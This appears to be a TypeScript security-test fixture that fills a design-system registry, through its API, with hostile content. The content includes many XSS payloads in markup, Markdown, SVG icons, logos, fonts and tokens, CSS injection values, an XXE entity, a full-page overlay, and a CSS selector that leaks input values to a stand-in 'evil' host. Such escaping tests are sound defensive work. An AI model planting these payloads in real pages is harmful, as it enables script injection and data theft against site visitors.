import type { OpenService } from "./open-registry.ts";

/** What a design system could hold to harm its readers. `evil` is the origin of a host that must never be asked. */
export interface Hostile {
  /** Markup for every place that takes words. */
  words: string;
  /** Values for every place that takes CSS. */
  css: string[];
  /** Drawings that run, fetch or reach out of themselves. */
  drawings: string[];
  markdown: string;
  theme: string;
}

/** A layer that a payload lays over the whole page when its style gets through. */
export const OVERLAY_Z = "2147483646";

export function hostileContent(evil: string): Hostile {
  const host = evil.replace(/^http:/, "");
  const words =
    `'"></title></style></textarea></noscript></template></script><script>alert(1)</script>` +
    `<img src=x onerror=alert(1)><img src="${host}/w.png"><svg onload=alert(1)><a href="javascript:alert(1)">go</a>` +
    `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`;
  const css = [
    `red;position:fixed;inset:0;z-index:${OVERLAY_Z};background:url(${host}/c.png)`,
    `url(${host}/u.png)`,
    `red url("${evil}/q.png")`,
    `image-set("${evil}/i.png" 1x)`,
    `-webkit-image-set("${evil}/j.png" 1x)`,
    `red}</style><script>alert(1)</script>`,
    `re\\64;background:u\\72l(${host}/e.png)`,
    `red/*;*/;background-image:url(${host}/k.png)`,
    `"><script>alert(1)</script>`,
    `expression(alert(1))`,
  ];
  return { words, css, drawings: drawings(evil, host), markdown: markdown(evil, host), theme: theme(evil, host) };
}

const svg = (inner: string, attributes = "") =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 24 24"${attributes}>${inner}<path d="M4 4h16v16H4z"/></svg>`;

const drawings = (evil: string, host: string): string[] => [
  svg("<script>alert(1)</script>"),
  svg("<script href='data:text/javascript,alert(1)'/>"),
  svg("", ` onload="alert(1)"`),
  svg(`<a xlink:href="javascript:alert(1)"><rect width="24" height="24"/></a>`),
  svg(`<a href="${evil}/a"><rect width="24" height="24"/></a>`),
  svg(
    `<foreignObject width="24" height="24"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>`,
  ),
  svg(
    `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject>`,
  ),
  svg(`<image href="${evil}/image.png" width="9" height="9"/>`),
  svg(`<use href="${evil}/sprite.svg#x"/>`),
  svg(`<use href="data:image/svg+xml,&lt;svg id='x' onload='alert(1)'/&gt;#x"/>`),
  svg(`<style>@import "${evil}/s.css"; * { fill: url(${host}/f.svg#x) }</style>`),
  svg(`<rect width="9" height="9" style="fill:url(${host}/r.svg#x);background:url(${host}/b.png)"/>`),
  svg(`<rect width="9" height="9" filter="url(${evil}/filter.svg#x)"/>`),
  svg(`<filter id="f"><feImage href="${evil}/fe.png"/></filter><rect width="9" height="9" filter="url(#f)"/>`),
  svg(`<set attributeName="onmouseover" to="alert(1)"/><animate attributeName="href" values="javascript:alert(1)"/>`),
  `<?xml-stylesheet href="${evil}/p.css"?>${svg("")}`,
  `<!DOCTYPE svg [<!ENTITY x SYSTEM "${evil}/entity">]>${svg("<text>&#38;x;</text>")}`,
  svg(`</symbol></svg><img src="x" onerror="alert(1)"/><svg><symbol id="q">`),
  svg(
    `<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title><desc><![CDATA[<script>alert(1)</script>]]></desc>`,
  ),
  `<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`,
];

const markdown = (evil: string, host: string): string => `
[one](javascript:alert(1)) [two](JaVaScRiPt:alert(1)) [three](java\tscript:alert(1)) [four](data:text/html,<script>alert(1)</script>)
[five](vbscript:x) <javascript:alert(1)> [six]: javascript:alert(1)

![picture](${evil}/m.png) ![picture](${host}/n.png) ![a](x"onerror="alert(1))

<script>alert(1)</script> <ScRiPt src="${evil}/s.js"></sCrIpT>
<img src=x onerror=alert(1)> <img srcset="${evil}/set.png 1x" src="${evil}/src.png">
<svg><script>alert(1)</script><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>
<form action="${evil}/f"><button formaction="javascript:alert(1)">send</button><input autofocus onfocus=alert(1)></form>
<details open ontoggle=alert(1)><summary>more</summary></details>
<iframe src="javascript:alert(1)"></iframe><iframe src="${evil}/frame"></iframe><iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object><embed src="${evil}/embed">
<video poster="${evil}/poster.png"><source src="${evil}/v.mp4" onerror=alert(1)></video><audio src="${evil}/a.mp3" autoplay></audio>
<link rel="stylesheet" href="${evil}/l.css"><link rel="preconnect" href="${evil}"><link rel="prefetch" href="${evil}/p">
<meta http-equiv="refresh" content="0;url=${evil}/r"><base href="${evil}/">
<style>@import "${evil}/i.css"; body { background: url(${host}/y.png) }</style>
<div style="position:fixed;inset:0;z-index:${OVERLAY_Z};background:url(${host}/d.png)" onclick="alert(1)">over</div>
<a href="javascript:alert(1)" id="content">link</a> <a href="&#106;avascript:alert(1)">entity</a> <a href=" javascript:alert(1)">space</a>
<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<button data-copy-menu="not json" data-copy="x">copy</button> <div popover id="navigation">menu</div> <p data-frame="{}">frame</p>
<p data-island="icons" data-for-administrators hidden>island</p> <details data-load="${evil}/l" open><summary>load</summary><p></p></details>
<form data-replace="content" action="${evil}/f"><button>replace</button></form>
<input name="body"><img name="cookie"><form name="head" id="contents"></form>

<Callout type={alert(1)} onClick={alert(1)}>text</Callout> {globalThis.alert(1)} {% raw %}<script>alert(1)</script>{% endraw %}

| <img src=x onerror=alert(1)> | b |
|---|---|
| [x](javascript:alert(1)) | \`</code><script>alert(1)</script>\` |

\`\`\`html"><script>alert(1)</script>
</code></pre><script>alert(1)</script>
\`\`\`

## <img src=x onerror=alert(1)> heading {#x" onclick="alert(1)}

<Preview id="evil" /> <Preview id="evil" variant="<img src=x onerror=alert(1)>" />

<Preview id="<img src=x onerror=alert(1)>" />

<Properties id="evil" />

<Token name="<img src=x onerror=alert(1)>" /> <Icons ids="0, 1, <img src=x onerror=alert(1)>" />

{{ example({ item: "evil", example: "<script>alert(1)</script>" }) }}

Note[^1].

[^1]: <script>alert(1)</script> [back](javascript:alert(1))
`;

const theme = (evil: string, host: string): string => `</style><script>alert(1)</script>
@import url("${evil}/import.css");
@font-face { font-family: "Figtree"; src: url("${evil}/font.woff2"); }
html { background: url(${host}/theme.png); --accent: url(${host}/var.png); }
body::before { content: url("${evil}/content.svg"); }
a { background-image: image-set("${evil}/set.png" 1x); cursor: url(${host}/cursor.cur), auto; }
input[value^="a"] { background: url(${host}/stolen); }
`;

/** Fills a registry with it, through the API, as somebody who may push could. Returns the documentation pages it took. */
export async function pushHostile(registry: OpenService, { words, css, drawings, markdown, theme }: Hostile) {
  const send = async (step: string, body: unknown) => {
    const answer = await registry.post(`/api/registry/${step}`, body);
    if (answer.status !== 200) throw new Error(`${step}: ${answer.status} ${await answer.text()}`);
  };
  await send("config", { data: configOf(words) });
  await send("theme", { css: theme });
  await send("tokens", { payload: { localStyles: stylesOf(words, css) } });
  await send("dtcg", dtcgOf(words, css));
  await send("icons", iconsOf(words, drawings));
  await send("logos", { logoSet: logosOf(words, css, drawings) });
  const font = {
    filename: "evil.woff2",
    family: words,
    familyKey: words,
    weight: 400,
    style: "normal",
    format: "woff2",
  };
  await send("fonts", { fonts: [{ ...font, data: "d09GMgABAAA=" }] });

  const frontmatter = {
    title: words,
    menuTitle: words,
    metaTitle: words,
    description: words,
    metaDescription: words,
    image: "javascript:alert(1)",
    lang: `en"><script>alert(1)</script>`,
    dir: `rtl" onload="alert(1)`,
    menu: [{ title: words, url: "javascript:alert(1)" }],
  };
  const taken: string[] = [];
  for (const slug of [
    "index",
    "page",
    "a/b",
    `"><img src=x onerror=alert(1)>`,
    "'><svg onload=alert(1)>",
    "javascript:alert(1)",
  ]) {
    const answer = await registry.post("/api/registry/pages", { pages: [{ slug, frontmatter, markdown }] });
    if (answer.status === 200) taken.push(slug);
  }
  const node = (slug: string, type: string) => ({ slug, title: words, type, definition: words });
  const children = [node("page", "markdown"), node("javascript:alert(1)", "markdown"), node("evil", "plugin")];
  await send("navigation", { tree: [{ ...node("group", "category"), children }, node("//evil", words)] });
  return taken;
}

const configOf = (words: string) => ({
  title: words,
  client: words,
  color_mode: { default: words, modes: [words, "light", "dark"] },
  axes: { scheme: { attribute: `onload` }, brand: { attribute: `data-x onmouseover=alert(1) x` } },
  attribution: { text: words, href: "javascript:alert(1)" },
  color_sort: [words],
  type_sort: [words],
  breakpoints: { [words]: { size: 400, name: words } },
});

function stylesOf(words: string, css: readonly string[]) {
  const head = { name: words, group: words, groups: [words, words], reference: words, machineName: words, id: words };
  return {
    color: [
      { ...head, value: "#123456", sass: words },
      ...css.map((value, index) => ({ ...head, id: `${index}`, name: `${words}${index}`, value, sass: value })),
    ],
    typography: css.map((value, index) => ({
      ...head,
      id: `${index}`,
      values: { fontFamily: value, fontSize: index % 2 ? 16 : value, fontWeight: value, lineHeightPx: 20, css: value },
    })),
    effect: css.map((value, index) => ({
      ...head,
      id: `${index}`,
      effects: [{ type: words, value: `0 0 1px ${value}` }],
    })),
  };
}

const dtcgOf = (words: string, css: readonly string[]) => ({
  manifest: { project: words, sources: [words], counts: { color: 1, total: 1 } },
  css: `:root { --x: red }</style><script>alert(1)</script>`,
  scss: words,
  utilitycss: words,
  dtcg: {
    [words.replaceAll(/[.{}$]/g, "")]: {
      $description: words,
      ...Object.fromEntries(
        css.flatMap((value, index) => [
          [`c${index}`, { $type: "color", $value: value, $description: words, $deprecated: words }],
          [`d${index}`, { $type: "dimension", $value: value }],
          [`f${index}`, { $type: "fontFamily", $value: value }],
          [
            `s${index}`,
            { $type: "shadow", $value: { color: value, offsetX: value, offsetY: value, blur: value, spread: value } },
          ],
          [`t${index}`, { $type: words, $value: value }],
        ]),
      ),
    },
  },
  brands: { [words]: {}, other: {} },
});

const iconsOf = (words: string, drawings: readonly string[]) => ({
  catalog: [
    ...drawings.map((drawing, index) => ({
      id: `${index}`,
      name: `${index} ${words}`,
      source: { type: "custom", svg: drawing },
      category: words,
      tags: [words],
      usage: words,
    })),
    { id: words.slice(0, 190), name: "long", source: { type: "custom", svg: drawings[0] }, category: words },
    { id: "lib", name: words, source: { type: "library", libraryIconId: "evil:x" }, category: "a" },
  ],
  library: Object.fromEntries(drawings.map((drawing, index) => [index === 0 ? "evil:x" : `evil:x${index}`, drawing])),
});

const logosOf = (words: string, css: readonly string[], drawings: readonly string[]) => ({
  name: words,
  description: words,
  clearspace: `1x ${words}`,
  minWidth: `24px ${words}`,
  doNot: [`stretch ${words}`, words],
  variants: drawings.map((drawing, index) => ({
    id: index === 0 ? words.slice(0, 190) : `${index}`,
    name: words,
    brand: index % 2 ? words : undefined,
    variant: index === 1 ? "color" : words,
    form: index === 1 ? "primary" : words,
    svg: drawing,
    background: css[index % css.length],
    colors: { [words]: words, other: css[index % css.length] },
    usage: `${words} https://x"onclick=alert(1) javascript:alert(1)`,
    doNotUse: [words],
  })),
});
